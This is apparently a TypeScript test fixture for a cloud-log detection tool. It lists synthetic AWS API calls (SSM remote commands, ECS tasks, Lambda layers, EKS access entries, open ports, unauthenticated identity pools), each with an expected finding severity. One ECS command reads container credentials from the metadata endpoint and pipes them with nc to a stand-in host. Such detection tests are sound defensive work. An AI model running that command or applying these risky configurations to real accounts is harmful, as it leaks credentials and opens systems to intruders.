import { ACCOUNT, OTHER_ACCOUNT } from "../../helpers/trail-maker.ts";
import { container, onInstance, ping, STRANGER, TERRAFORM, type Step } from "./step.ts";

export const WORKLOAD_STEPS: readonly Step[] = [
  // Hosts.
  { finding: "ssm-remote-execution medium", call: "ssm-guiconnect:StartConnection", request: { Protocol: "RDP" } },
  { finding: "ssm-remote-execution medium", call: "ssm:CreateActivation", request: { iamRole: "r" } },
  {
    finding: "ssm-remote-execution medium",
    call: "ssm:SendCommand",
    request: {
      documentName: "arn:aws:ssm:us-east-1:aws:document/AWS-RunShellScript",
      instanceIds: ["i-1"],
    },
  },
  {
    finding: "ssm-remote-execution medium",
    call: "ssm:CreateAssociation",
    request: { name: `arn:aws:ssm:us-east-1:${OTHER_ACCOUNT}:document/Sensor` },
    more: TERRAFORM,
  },
  {
    finding: "instance-credentials-misuse none",
    call: "ssm:UpdateInstanceInformation",
    more: onInstance("203.0.113.77", "amazon-ssm-agent/3"),
  },
  // An anonymised archive gives a stranger a private address.
  {
    finding: "instance-credentials-misuse high",
    call: "s3:ListBuckets",
    more: onInstance("192.168.10.20", "Boto3/1.3 Linux"),
  },
  {
    finding: "instance-credentials-misuse high",
    call: "s3:ListBuckets",
    more: onInstance("address-9", "aws-cli/2 Linux"),
  },
  // Containers and jobs.
  {
    finding: "container-and-shell-exec low",
    call: "ecs:RegisterTaskDefinition",
    request: container("sh", "-c", "export HOST=$(curl http://169.254.169.254/latest/meta-data/local-ipv4); app"),
  },
  {
    finding: "container-and-shell-exec high",
    call: "ecs:RegisterTaskDefinition",
    request: container("sh", "-c", "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc there.test 80"),
  },
  {
    finding: "container-and-shell-exec low",
    call: "ecs:RunTask",
    request: {
      overrides: { containerOverrides: [{ environment: [{ name: "A", value: "B" }], command: ["sh", "-c", "id"] }] },
    },
  },
  {
    finding: "container-and-shell-exec none",
    call: "ecs:RunTask",
    request: { overrides: { containerOverrides: [{ environment: [{ name: "command", value: "B" }] }] } },
  },
  {
    finding: "container-and-shell-exec informational",
    call: "batch:SubmitJob",
    request: { containerOverrides: { resourceRequirements: [{ type: "VCPU", value: "1" }], command: ["id"] } },
  },
  {
    finding: "container-and-shell-exec medium",
    call: "glue:UpdateDevEndpoint",
    request: { endpointName: "e", addPublicKeys: ["ssh-rsa AAAA"] },
  },
  // Functions.
  {
    finding: "lambda-backdoors medium",
    call: "lambda:UpdateFunctionConfiguration20150331v2",
    request: {
      functionName: "f",
      layers: [ACCOUNT, OTHER_ACCOUNT].map((account) => `arn:aws:lambda:us-east-1:${account}:layer:l:1`),
    },
  },
  {
    finding: "lambda-backdoors low",
    call: "lambda:UpdateFunctionConfiguration20150331v2",
    request: { functionName: "f", layers: [`arn:aws:lambda:us-east-1:${ACCOUNT}:layer:l:1`] },
  },
  {
    finding: "lambda-backdoors informational",
    call: "lambda:AddPermission20150331v2",
    request: { functionName: "f", principal: "alexa-appkit.amazon.com", eventSourceToken: "amzn1" },
  },
  // Clusters.
  {
    finding: "eks-access low",
    call: "eks:UpdateClusterConfig",
    request: { name: "c", accessConfig: { authenticationMode: "API_AND_CONFIG_MAP" } },
  },
  { finding: "eks-access informational", call: "eks:AccessKubernetesApi", request: { name: "c" } },
  {
    finding: "eks-access high",
    call: "eks:CreateAccessEntry",
    request: { name: "c", principalArn: encodeURIComponent(STRANGER) },
  },
  { finding: "eks-access low", call: "eks:CreateNodegroup", request: { remoteAccess: { ec2SshKey: "k" } } },
  { finding: "eks-access none", call: "eks:CreateNodegroup", request: { nodegroupName: "n" } },
  // The network.
  {
    finding: "network-openings high",
    call: "lightsail:OpenInstancePublicPorts",
    request: { instanceName: "i", portInfo: { fromPort: 22, toPort: 22, protocol: "tcp" } },
  },
  {
    finding: "network-openings none",
    call: "lightsail:OpenInstancePublicPorts",
    request: { portInfo: { fromPort: 22, toPort: 22, protocol: "tcp", cidrs: ["192.0.2.1/32"] } },
  },
  { finding: "network-openings low", call: "ec2:AuthorizeSecurityGroupIngress", request: ping("icmp", -1) },
  { finding: "network-openings high", call: "ec2:AuthorizeSecurityGroupIngress", request: ping("-1", -1) },
  {
    finding: "network-openings low",
    call: "ec2:CreateRoute",
    request: { destinationCidrBlock: "0.0.0.0/0", gatewayId: "gateway-1" },
  },
  // Identity Center and identity pools.
  {
    finding: "identity-center-grants low",
    call: "sso:AssociateProfile",
    request: { accessorId: "u", accessorType: "USER", profileId: "p" },
  },
  { finding: "idp-and-trust-anchors medium", call: "sso-directory:CreateBearerToken", request: { tenantId: "t" } },
  {
    finding: "idp-and-trust-anchors medium",
    call: "cognito-identity:CreateIdentityPool",
    request: { allowUnauthenticatedIdentities: true },
  },
  {
    finding: "idp-and-trust-anchors none",
    call: "cognito-identity:CreateIdentityPool",
    request: { allowUnauthenticatedIdentities: false },
  },
  {
    finding: "idp-and-trust-anchors medium",
    call: "cognito-identity:SetIdentityPoolRoles",
    request: { roles: { unauthenticated: "arn:aws:iam::1:role/r" } },
  },
  // Logins that lie about.
  { finding: "other-credential-reads low", call: "codebuild:BatchGetProjects", request: { names: ["p"] } },
  { finding: "other-credential-reads low", call: "glue:GetConnections", request: {} },
  { finding: "other-credential-reads none", call: "glue:GetConnection", request: { hidePassword: true } },
];
